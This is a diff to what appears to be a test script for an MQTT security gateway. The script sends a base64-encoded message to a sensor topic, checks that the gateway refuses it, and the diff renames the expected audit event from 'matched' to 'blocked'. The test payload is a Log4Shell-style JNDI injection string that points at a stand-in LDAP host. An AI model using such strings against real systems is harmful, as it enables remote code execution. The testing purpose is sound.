@@ -173,7 +173,7 @@ LOOKUP=$(printf '{"name":"${jndi:ldap://203.0.113.7/a}"}' | base64 -w 0)
 as sensor-17 mosquitto_pub -q 1 -t plant/sensor-17/status -m "{\"config\":\"$LOOKUP\"}" >scan.log 2>&1 || true
 grep -q 'Payload format invalid' scan.log || fail "the payload was not refused: $(cat scan.log)"
 sed 's/^/   mosquitto_pub: /' scan.log
-event '.event.action == "mqtt-payload-matched"'
+event '.event.action == "mqtt-payload-blocked"'
 
 title "9. One event as the SIEM reads it (XRANGE mqward:audit)"
 redis-cli --json -p "$REDIS_PORT" XRANGE mqward:audit - + |
